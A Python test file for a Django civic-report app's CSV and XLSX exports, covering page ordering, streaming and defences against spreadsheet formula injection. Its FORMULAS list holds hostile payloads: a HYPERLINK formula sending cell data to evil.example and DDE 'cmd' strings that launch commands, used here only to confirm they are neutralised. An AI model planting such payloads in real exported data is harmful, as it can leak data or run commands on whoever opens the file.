"""Report exports read the list in keyset pages: every report exactly once, newest
first, even when many share one received time and a page boundary falls among them."""

import csv
import io

from django.utils import timezone
from django.utils.translation import override

from tests.reports.helpers import submit
from yangguang.reports import exports
from yangguang.reports.models import Report


def test_every_report_once_across_pages_with_equal_times(city, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 3)
    reports = [submit(city, description=f"第{i}处路灯不亮")[0] for i in range(8)]
    same = timezone.now().replace(microsecond=0)
    # Five share one time, so the page boundary at 3 falls inside the tie.
    Report.objects.filter(pk__in=[r.pk for r in reports[:5]]).update(created_at=same)
    Report.objects.filter(pk__in=[r.pk for r in reports[5:]]).update(
        created_at=same - timezone.timedelta(hours=1)
    )
    with override("zh-hans"):
        numbers = [row[0] for row in exports.rows(Report.objects.all())]
    expected = [r.tracking_number for r in sorted(reports[:5], key=lambda r: -r.pk)] + [
        r.tracking_number for r in sorted(reports[5:], key=lambda r: -r.pk)
    ]
    assert numbers == expected


def test_csv_rows_carry_labels_and_local_times(city):
    report, _ = submit(city)
    with override("zh-hans"):
        text = "".join(exports.csv_stream(Report.objects.all())).lstrip("\ufeff")
    header, row = list(csv.reader(io.StringIO(text)))
    assert header[0] == "受理编号"
    values = dict(zip(header, row, strict=True))
    assert values["受理编号"] == report.tracking_number
    assert values["状态"] == "待受理"
    assert values["接收时间"] == timezone.localtime(report.created_at).strftime("%Y-%m-%d %H:%M")
    assert values["时限状态"] == "按时"


def test_csv_is_sent_in_pieces_that_join_to_every_row(city, monkeypatch):
    for i in range(5):
        submit(city, description=f"第{i}处")
    whole = list(exports.csv_stream(Report.objects.all()))
    monkeypatch.setattr(exports, "STREAM_PIECE", 10)
    pieces = list(exports.csv_stream(Report.objects.all()))
    assert len(whole) == 1
    assert len(pieces) > 3
    assert "".join(pieces) == "".join(whole)
    assert len(list(csv.reader(io.StringIO("".join(pieces))))) == 6


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def with_addresses(city, addresses: list[str]) -> None:
    """Reports holding these addresses as stored (intake strips spaces; other sources
    and older data may not)."""
    for address in addresses:
        report, _token = submit(city)
        Report.objects.filter(pk=report.pk).update(address=address)


def test_csv_cells_never_start_a_formula(city):
    """OWASP CSV Injection (ASVS 4.0 V5.3.1): a citizen's address starting with
    = + - @, a tab or a carriage return is exported with a leading apostrophe."""
    with_addresses(city, FORMULAS)
    text = "".join(exports.csv_stream(Report.objects.all())).lstrip("\ufeff")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    column = header.index(str(exports.headers()[7]))

    assert sorted(row[column] for row in rows) == sorted("'" + address for address in FORMULAS)


def test_csv_keeps_ordinary_text_as_it_is(city):
    submit(city, address="东街道一社区门口 =2号")
    text = "".join(exports.csv_stream(Report.objects.all())).lstrip("\ufeff")
    _header, row = list(csv.reader(io.StringIO(text)))

    assert row[7] == "东街道一社区门口 =2号"


def test_xlsx_cells_are_text_never_formulas(city):
    """OWASP CSV Injection: in the workbook a formula-looking address stays text, and
    characters XML cannot carry are dropped instead of failing the export."""
    from openpyxl import load_workbook

    with_addresses(city, [*FORMULAS, "东街\x01道"])
    with exports.xlsx_file(Report.objects.all()) as handle:
        sheet = load_workbook(handle).active
        cells = [row[7] for row in sheet.iter_rows(min_row=2)]

    assert {cell.data_type for cell in cells} == {"s"}
    assert sorted(cell.value for cell in cells) == sorted([*FORMULAS, "东街道"])
